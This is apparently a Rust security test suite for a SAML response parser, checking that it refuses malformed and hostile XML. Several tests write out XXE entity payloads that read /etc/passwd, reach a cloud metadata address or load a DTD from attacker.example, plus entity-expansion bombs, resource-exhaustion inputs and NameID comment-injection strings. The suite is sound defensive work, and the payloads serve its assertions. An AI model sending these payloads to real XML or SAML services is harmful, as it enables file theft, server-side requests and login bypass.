//! `docs/security.md` part A: the bytes, before anybody asks who signed them.
//!
//! Elsewhere: 10 in `authn_request`, 12 (what is good), 17 and 23 in `accepted_shapes`, 24 and 26 in `mutated`, the
//! growth of work in `hostile_work`. That nothing is fetched (3, 4) is plain: the crate opens nothing.

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use stoa_saml::idp::SignWhat;
use stoa_saml::{RefusalCode as R, decode_post_binding, unverified_in_response_to};

use crate::fixture::*;
use crate::hostile_work::used;

/// Puts text into the signed NameID.
fn named(value: &str) -> String {
    sign(&template().to_xml().replace(&format!(">{PERSON}</saml:NameID"), &format!(">{value}</saml:NameID")), "R-1")
}

/// The message holds, and names nobody: not by a part of the text either.
#[track_caller]
fn nobody(xml: String) {
    assert_eq!(accepted(xml).name_id().unwrap_err().code, R::TextNotPlain);
}

/// Answers within the time, on a thread with a small stack.
#[track_caller]
fn refused_quickly(xml: String, code: R) {
    let answer = std::thread::Builder::new().stack_size(256 * 1024).spawn(move || {
        let start = used();
        let refusal = check(xml).expect_err("accepted");
        (refusal, used() - start)
    });
    let (refusal, elapsed) = answer.unwrap().join().unwrap();
    assert_eq!(refusal.code, code, "{refusal}");
    // The budget is 50 ms of an optimised build; this only tells linear from quadratic.
    assert!(elapsed < Duration::from_secs(1), "{elapsed:?}");
}

#[test]
fn c001_doctype() {
    refused(format!("<!DOCTYPE samlp:Response>{}", good()), R::Doctype);
    refused(good().replace("<saml:Assertion", "<!DOCTYPE x><saml:Assertion"), R::Doctype);
}

/// Entities need a declaration, so all of these fail at the DOCTYPE, and nothing is opened.
#[test]
fn c002_c003_c004_c005_c006_entities() {
    for declaration in [
        "<!ENTITY e \"x\">",
        "<!ENTITY e SYSTEM \"file:///etc/passwd\">",
        "<!ENTITY e SYSTEM \"http://169.254.169.254/\">",
        "<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;",
        "<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY e \"&b;&b;&b;&b;\">",
    ] {
        refused_quickly(format!("<!DOCTYPE r [{declaration}]>{}", good().replace(PERSON, "&e;")), R::Doctype);
    }
    refused(good().replace(PERSON, "&e;"), R::XmlMalformed);
}

#[test]
fn c007_depth() {
    let deep = |depth| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    refused_quickly(deep(10_000), R::TooDeep);
    refused_quickly(deep(65), R::TooDeep);
    refused_quickly(deep(64), R::NotAResponse);
}

#[test]
fn c008_attributes_and_declarations() {
    let attributes = |count| (0..count).map(|n| format!(" a{n}=''")).collect::<String>();
    let declarations = |count| (0..count).map(|n| format!(" xmlns:a{n}='urn:{n}'")).collect::<String>();
    refused_quickly(format!("<a{}/>", attributes(50_000)), R::TooManyAttributes);
    refused_quickly(format!("<a{}/>", attributes(65)), R::TooManyAttributes);
    refused_quickly(format!("<a{}/>", attributes(64)), R::NotAResponse);
    refused_quickly(format!("<a{}/>", declarations(20_000)), R::TooManyAttributes);
    let nested: String =
        (0..30).map(|n| format!("<a xmlns:a{n}='urn:1' xmlns:b{n}='urn:2' xmlns:c{n}='urn:3'>")).collect();
    refused_quickly(format!("{nested}{}", "</a>".repeat(30)), R::TooManyNamespaces);
}

/// The parser copies what is in scope to each element that declares something, and compares all with all.
#[test]
fn c008_declarations_in_many_children() {
    let names: String = (0..55).map(|n| format!(" xmlns:a{n}='urn:{n}'")).collect();
    let with = |children: usize| format!("<a{names}>{}</a>", "<a xmlns='urn:1'/>".repeat(children));
    refused_quickly(with(19_000), R::TooManyNamespaces);
    refused_quickly(with(1_785), R::TooManyNamespaces);
    refused_quickly(with(1_784), R::NotAResponse);
    // A thousand values that declare their types are nothing special.
    let typed = "<saml:AttributeValue xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" \
                 xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:type=\"xs:string\">";
    let groups = vec!["group"; 2_000];
    let xml = template().attribute("memberOf", &groups).to_xml().replace("<saml:AttributeValue>", typed);
    assert_eq!(accepted(sign(&xml, "R-1")).attributes()[1].values.len(), 2_000);
}

/// What is within every bound is still quick.
#[test]
fn c008_at_the_bounds() {
    let names: String = (0..64).map(|n| format!(" xmlns:a{n}='urn:{n}'")).collect();
    let child = format!("<b{}/>", (0..63).map(|n| format!(" a{n}:x=''")).collect::<String>());
    refused_quickly(format!("<a{names}>{}</a>", child.repeat(166)), R::NotAResponse);
    refused_quickly(format!("<a{names}>{}</a>", child.repeat(167)), R::TooManyAttributes);
    refused_quickly(format!("<a{names}>{}</a>", child.repeat(900)), R::TooManyAttributes);
    refused_quickly(format!("<a>{}</a>", "<!---->".repeat(30_000)), R::TooMuchMarkup);
    refused_quickly(format!("<a>{}</a>", "<b/>".repeat(30_000)), R::TooMuchMarkup);
    refused_quickly(format!("<a>{}</a>", "=".repeat(500_000)), R::NotAResponse);
    refused_quickly(format!("<a>{}</a>", "<b ID=''/>".repeat(19_000)), R::NotAResponse);
    refused_quickly("<".repeat(500_000), R::XmlMalformed);
    refused_quickly("<a b='".repeat(80_000), R::TooManyAttributes);
}

/// A namespace name is written once and compared, and written again by canonicalization, wherever its prefix is used.
#[test]
fn c008_long_namespace_names() {
    let around = |count: usize, length: usize, child: &str, children: usize| {
        let names: String = (0..count).map(|n| format!(" xmlns:a{n}='urn:{}{n}'", "x".repeat(length))).collect();
        format!("<a{names}>{}</a>", child.repeat(children))
    };
    let many: String = (0..60).map(|n| format!(" a{n}:x=''")).collect();
    refused_quickly(around(60, 4_000, &format!("<b{many}/>"), 500), R::TooManyAttributes);
    for child in ["<b a0:x='' a1:x=''/>", "<b a0:x=''/>", "<a0:b/>"] {
        refused_quickly(around(2, 80_000, child, 10_000), R::TooManyAttributes);
        refused_quickly(around(2, 100, child, 10_000), R::NotAResponse);
    }
    // The parser keeps what is declared in order, and moves the rest for each new one.
    let own = |count: usize| (0..count).map(|n| format!("<b xmlns:a{n}='urn:{n}'/>")).collect::<String>();
    refused_quickly(format!("<a>{}</a>", own(5_000)), R::NotAResponse);
    refused_quickly(format!("<a>{}</a>", own(18_000)), R::TooManyAttributes);
}

#[test]
fn c009_size() {
    refused(vec![b' '; 512 * 1024 + 1], R::TooLarge);
    assert_eq!(decode_post_binding(&"A".repeat(900_000)).unwrap_err().code, R::TooLarge);
    assert_eq!(decode_post_binding(&"QUJD".repeat(100_000)).unwrap().len(), 300_000);
}

#[test]
fn c011_trailing_markup() {
    for trailing in ["<a/>", "text", "<samlp:Response/>"] {
        refused(format!("{}{trailing}", good()), R::XmlMalformed);
    }
}

#[test]
fn c012_encodings() {
    let xml = good();
    for declaration in [
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>",
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
        "<?xml version=\"1.1\"?>",
        "<?xml encoding=\"UTF-8\"?>",
        "<?xml version=\"1.0\" standalone=\"maybe\"?>",
        "<?xml version=\"1.0\" version=\"1.0\"?>",
        "<?xml version=\"1.0\"",
    ] {
        refused(format!("{declaration}{xml}"), R::XmlDeclaration);
    }
    // What is declared as ASCII is that.
    refused(format!("<?xml version='1.0' encoding='ASCII'?><!-- é -->{xml}"), R::XmlDeclaration);
    refused(format!(" <?xml version=\"1.0\"?>{xml}"), R::ProcessingInstruction);
    let utf16: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(check(&utf16).is_err());
    refused([&[0xff, 0xfe], utf16.as_slice()].concat(), R::NotUtf8);
    refused(xml.replace("<samlp:Status>", "\u{feff}<samlp:Status>"), R::ElementUnexpected);
}

#[test]
fn c013_characters() {
    for bad in ["\0", "\u{1}", "\u{b}", "&#0;", "&#1;", "&#xD800;", "&#x110000;", "&#xFFFE;", "\u{ffff}", "&#;", "&#x;"]
    {
        refused(good().replace(PERSON, bad), R::XmlMalformed);
    }
    let mut bytes = good().into_bytes();
    bytes.extend([0xc0, 0x80]);
    refused(bytes, R::NotUtf8);
}

/// One decoder for all: what the usual one refuses is refused, and what it takes is taken.
#[test]
fn c014_base64_as_others_read_it() {
    let whole = STANDARD.encode("<r>0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ</r>");
    for length in 4..=whole.len() {
        for (at, byte) in [(0, b'A'), (length - 1, b'='), (length - 2, b'='), (length / 2, b'-'), (length - 1, b'z')] {
            let mut text = whole.as_bytes()[..length].to_vec();
            text[at] = byte;
            let text = String::from_utf8(text).unwrap();
            let usual = STANDARD.decode(&text).ok().filter(|message| message.starts_with(b"<"));
            let ours = decode_post_binding(&text).ok().filter(|message| message.starts_with(b"<"));
            assert_eq!(ours, usual, "{text}");
        }
    }
    for byte in 0..=255_u8 {
        for at in [0, 1, 40, 70, whole.len() - 1] {
            let mut text = whole.clone().into_bytes();
            text[at] = byte;
            let Ok(text) = String::from_utf8(text) else { continue };
            let usual = STANDARD.decode(&text).ok().filter(|message| message.starts_with(b"<"));
            let is_space = byte.is_ascii_whitespace() && byte != 0x0c;
            let ours = decode_post_binding(&text).ok().filter(|message| message.starts_with(b"<"));
            assert!(ours == usual || is_space, "{text:?}");
        }
    }
}

#[test]
fn c014_base64() {
    for wrapped in ["PGE+\r\nPC9h\nPg==\r\n", " PGE+PC9hPg== ", "PGE+ PC9hPg==", "\tP G E+P C9\r\n\t h P g = = "] {
        assert_eq!(decode_post_binding(wrapped).unwrap(), b"<a></a>", "{wrapped:?}");
    }
    for bad in
        ["PGE-PC9hPg==", "PGE_", "PGE PC9hPg==", "PG==E+PC9hPg==", "PGE+PC9hPg", "PGE+PC9hPg=", "PGE+!", "=", "QR=="]
    {
        assert_eq!(decode_post_binding(bad).unwrap_err().code, R::Base64Invalid, "{bad}");
    }
    let twice = decode_post_binding("UEdFK1BDOWhQZz09").unwrap_err();
    assert_eq!((twice.code, twice.got.as_deref()), (R::Base64Invalid, Some("base64 in base64")));
}

#[test]
fn c015_c016_c018_nothing_but_text_in_values() {
    for junk in ["<!---->", "<x/>", "<x>.evil.example</x>"] {
        nobody(named(&format!("admin@acme.example{junk}.evil.example")));
        nobody(named(&format!("{junk}admin@acme.example")));
        nobody(named(junk));
    }
    refused(named("admin@acme.example<?x y?>.evil.example"), R::ProcessingInstruction);
    // Put in after signing, a comment changes no digest. It must still not change what is read.
    nobody(good().replace("acme.example</saml:NameID", "acme<!---->.example</saml:NameID"));
    let said = accepted(good().replace("acme.example</saml:Attr", "acme<!---->.example</saml:Attr"));
    assert_eq!((&said.attributes()[0].values[..], said.attributes()[0].not_text), (&[][..], 1));
    for value in [IDP, SP] {
        let (head, tail) = value.split_at(9);
        refused(good().replace(&format!(">{value}<"), &format!(">{head}<!-- -->{tail}<")), R::TextNotPlain);
    }
}

#[test]
fn c019_duplicate_attributes() {
    refused(good().replace(" Version=", " ID=\"x\" Version="), R::XmlMalformed);
    refused(
        good().replace("<saml:Subject>", "<saml:Subject xmlns:a=\"urn:a\" xmlns:b=\"urn:a\" a:x=\"\" b:x=\"\">"),
        R::XmlMalformed,
    );
    refused(good().replace("<samlp:Status>", "<samlp:Status xmlns=\"urn:a\" xmlns=\"urn:b\">"), R::NamespaceInvalid);
}

#[test]
fn c020_prefixes() {
    for (tag, code) in [
        ("<:x/>", R::NamespaceInvalid),
        ("<x:/>", R::NamespaceInvalid),
        ("<saml:x:y/>", R::NamespaceInvalid),
        ("<x :a=\"\"/>", R::NamespaceInvalid),
        ("<x xmlns:=\"\"/>", R::NamespaceInvalid),
        ("<x xmlns:a=\"\"/>", R::NamespaceInvalid),
        ("<x xmlns=\"relative\"/>", R::NamespaceInvalid),
        ("<x xmlns:xmlns=\"urn:x\"/>", R::NamespaceInvalid),
        ("<x xmlns:xml=\"urn:x\"/>", R::XmlMalformed),
        ("<x xmlns:p=\"http://www.w3.org/XML/1998/namespace\"/>", R::XmlMalformed),
        ("<x xmlns:p=\"http://www.w3.org/2000/xmlns/\"/>", R::XmlMalformed),
        ("<x xmlns:p=\"http://www.w3.org/XML/1998/namesp&#x61;ce\"/>", R::XmlMalformed),
        ("<x xmlns:p=\"http://www.w3.org/2000/xmlns&#47;\"/>", R::XmlMalformed),
        ("<x xmlns:p=\"&#32;urn:x\"/>", R::NamespaceInvalid),
        ("<x xmlns:p=\"relative&#47;x\"/>", R::NamespaceInvalid),
        ("<x xmlns:p=\"urn:&#60;\"/>", R::NamespaceInvalid),
        ("<x xmlns:p=\"urn&undeclared;:x\"/>", R::NamespaceInvalid),
        ("<undeclared:x/>", R::XmlMalformed),
        ("<x undeclared:a=\"\"/>", R::XmlMalformed),
        // The parser would take the last two for default namespace declarations.
        ("<x saml:xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"/>", R::NamespaceInvalid),
        ("<x undeclared:xmlns=\"urn:x\"/>", R::NamespaceInvalid),
    ] {
        refused(good().replace("<saml:Subject>", &format!("<saml:Subject>{tag}")), code);
    }
}

#[test]
fn c021_rival_identifiers() {
    for rival in [
        "Id=\"A-1\"",
        "id=\"A-1\"",
        "xml:id=\"A-1\"",
        "AssertionID=\"A-1\"",
        "wsu:Id=\"R-1\" xmlns:wsu=\"urn:wsu\"",
        "x:ID=\"A-1\" xmlns:x=\"urn:x\"",
    ] {
        let xml = template().to_xml().replace("<saml:Subject>", &format!("<saml:Subject {rival}>"));
        refused(sign(&xml, "R-1"), R::IdRepeated);
        // The one who repeats its own identifier in another spelling is no better.
        let xml = template().to_xml().replace("ID=\"A-1\"", &format!("ID=\"A-1\" {rival}"));
        refused(sign(&xml, "R-1"), R::IdRepeated);
    }
}

#[test]
fn c022_other_namespaces() {
    let assertion = "urn:oasis:names:tc:SAML:2.0:assertion";
    refused(
        sign(&template().to_xml().replace(assertion, "urn:oasis:names:tc:SAML:1.0:assertion"), "R-1"),
        R::ElementUnexpected,
    );
    refused(sign(&template().to_xml().replace("SAML:2.0:protocol", "SAML:1.1:protocol"), "R-1"), R::NotAResponse);
    let xml = template()
        .to_xml()
        .replace("<saml:Subject>", "<Subject xmlns=\"urn:x\">")
        .replace("</saml:Subject>", "</Subject>");
    refused(sign(&xml, "R-1"), R::ElementUnexpected);
}

/// Claims come from the signed element: what is said round it, unsigned, changes none of them.
#[test]
fn c025_nothing_is_read_outside_the_signed_element() {
    let xml = issue(&template(), SignWhat::Assertion);
    let said = |xml: &str| format!("{:?}", accepted(xml));
    let extensions = "<samlp:Extensions><NameID>admin@acme.example</NameID><x AuthnInstant=\"2026-11-20T11:00:00Z\"/>\
                      </samlp:Extensions><samlp:Status>";
    let start = xml.find("<saml:Issuer").unwrap();
    let end = start + xml[start..].find("</saml:Issuer>").unwrap() + "</saml:Issuer>".len();
    for changed in [
        xml.replacen("<samlp:Status>", extensions, 1),
        xml.replacen("ID=\"R-1\"", "ID=\"R-2\"", 1),
        xml.replacen("IssueInstant=\"2026-11-20T12:00:00.000Z\"", "IssueInstant=\"2026-11-20T11:59:00Z\"", 1),
        xml.replacen(&xml[start..end], "", 1),
    ] {
        assert_ne!(changed, xml);
        assert_eq!(said(&changed), said(&xml));
    }
}

/// An empty or broken message is the sender's fault, and no crash.
#[test]
fn c027_crash_inputs() {
    for (xml, code) in [
        ("", R::XmlMalformed),
        (" ", R::XmlMalformed),
        ("<", R::XmlMalformed),
        ("<a", R::XmlMalformed),
        ("</a>", R::XmlMalformed),
        ("<a></b>", R::XmlMalformed),
        ("<!--", R::XmlMalformed),
        ("<![CDATA[", R::XmlMalformed),
        ("<samlp:Response/>", R::XmlMalformed),
        ("<Response xmlns=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>", R::AttributeMissing),
    ] {
        refused(xml, code);
    }
    refused(good().replace("<ds:SignedInfo", "<ds:X").replace("</ds:SignedInfo", "</ds:X"), R::SignatureMalformed);
    let (before, rest) = {
        let xml = good();
        let at = xml.find("<ds:SignedInfo").unwrap();
        (xml[..at].to_owned(), xml)
    };
    let after = &rest[rest.find("</ds:Signature>").unwrap()..];
    refused(format!("{before}{after}"), R::SignatureMalformed);
}

/// Where a reference is none, it names nothing that could be wrong.
#[test]
fn c013_no_references_in_sections_and_comments() {
    let xml = template().attribute("o", &["R and D"]).to_xml();
    let xml =
        xml.replace("R and D", "<![CDATA[R&#D &#0; &x]]>").replace("<saml:Subject>", "<!-- &#0; --><saml:Subject>");
    assert_eq!(accepted(sign(&xml, "R-1")).attributes()[1].values, ["R&#D &#0; &x"]);
    refused(xml.replace("<!-- &#0; -->", "&#0;"), R::XmlMalformed);
    for number in ["0", "xd800", "x110000"] {
        refused(xml.replace("Name=\"o\"", &format!("Name=\"&#{number};\"")), R::XmlMalformed);
    }
    refused(xml + "&#0;", R::XmlMalformed);
}

/// Well-formedness that some parser somewhere lets pass (XML 1.0 §2, §3; Namespaces in XML 1.0). Put into a place where
/// any lawful XML may stand, of a message that is otherwise good.
#[test]
fn ill_formed_xml() {
    for bad in [
        "<a x=\"<b/>\"/>",
        "<a x=\"&\"/>",
        "<a x=\"&lt\"/>",
        "<a x=\"1\"y=\"2\"/>",
        "<a x=1/>",
        "<a x/>",
        "<a x='1\"/>",
        "<a x='1' x='2'/>",
        "<a/ >",
        "< a/>",
        "<a></ a>",
        "<a></a x='1'>",
        "<a></A>",
        "<a><b></a></b>",
        "<1a/>",
        "<-a/>",
        "<.a/>",
        "<a&b/>",
        "<a,b/>",
        "<a\u{a0}x='1'/>",
        "<a\u{c}x='1'/>",
        "<a x\u{2003}='1'/>",
        "<!-- a -- b -->",
        "<!-- a --->",
        "<!--->",
        "]]>",
        "&nbsp;",
        "&lt",
        "& ",
        "&#65",
        "&#x;",
        "&#X41;",
        "&#+65;",
        "&#-65;",
        "&#x+41;",
        "&# 65;",
        "&#4294967361;",
        "&#xd800;",
        "&#xfffe;",
        "\u{0}",
        "\u{8}",
        "\u{b}",
        "\u{c}",
        "\u{e}",
        "\u{1f}",
        "\u{fffe}",
        "\u{ffff}",
        "<![CDATA[\u{1}]]>",
        "<!--\u{1}-->",
        "<a x='\u{1}'/>",
        "<![cdata[x]]>",
        "<![IGNORE[x]]>",
        "<!ELEMENT a ANY>",
        "<a:b:c/>",
        "<xmlns:a/>",
        "<xmlns:a xmlns:xmlns='http://www.w3.org/2000/xmlns/'/>",
        "<a xmlns='http://www.w3.org/XML/1998/namespace'/>",
        "<a xmlns='http://www.w3.org/2000/xmlns/'/>",
    ] {
        let place = "<samlp:Status>";
        let xml = template().to_xml().replace(place, &format!("<samlp:Extensions>{bad}</samlp:Extensions>{place}"));
        let code = check(&xml).unwrap_err().code;
        assert!(matches!(code, R::XmlMalformed | R::NamespaceInvalid | R::Doctype), "{bad:?}: {code}");
    }
}

/// What stands round the root element.
#[test]
fn c011_around_the_root() {
    for (before, code) in [
        ("junk", R::XmlMalformed),
        ("<a/>", R::XmlMalformed),
        ("</a>", R::XmlMalformed),
        ("\u{feff}\u{feff}", R::XmlMalformed),
        ("<?xml version='1.0'?>\u{feff}", R::XmlMalformed),
        ("\u{0}", R::XmlMalformed),
        ("&#32;", R::XmlMalformed),
        ("<![CDATA[]]>", R::XmlMalformed),
        ("<?XML version='1.0'?>", R::ProcessingInstruction),
        ("<?xml-stylesheet href='x'?>", R::ProcessingInstruction),
        ("<?xml version='1.0'?><?xml version='1.0'?>", R::ProcessingInstruction),
    ] {
        refused(format!("{before}{}", good()), code);
    }
    for (after, code) in [
        ("\0", R::XmlMalformed),
        ("</samlp:Response>", R::XmlMalformed),
        ("<![CDATA[]]>", R::XmlMalformed),
        ("<!-- ", R::XmlMalformed),
        ("&#32;", R::XmlMalformed),
        ("\u{feff}", R::XmlMalformed),
        ("<?x?>", R::ProcessingInstruction),
        ("<!DOCTYPE a>", R::Doctype),
    ] {
        refused(format!("{}{after}", good()), code);
    }
    accepted(format!("{}\r\n<!-- end -->\n", good()));
    // Whatever is accepted, its login must be found.
    let commented = format!("<!-- <a InResponseTo='x'> -->\n<!---->{}", good());
    accepted(&commented);
    assert_eq!(unverified_in_response_to(commented.as_bytes()).as_deref(), Some(REQUEST));
    assert_eq!(unverified_in_response_to(b"<!-- <a InResponseTo='x'/>"), None);
    let xml = good();
    for length in (0..xml.len()).step_by(7) {
        let code = check(&xml[..length]).expect_err("accepted in part").code;
        assert!(matches!(code, R::XmlMalformed | R::NamespaceInvalid), "{length}: {code}");
    }
}
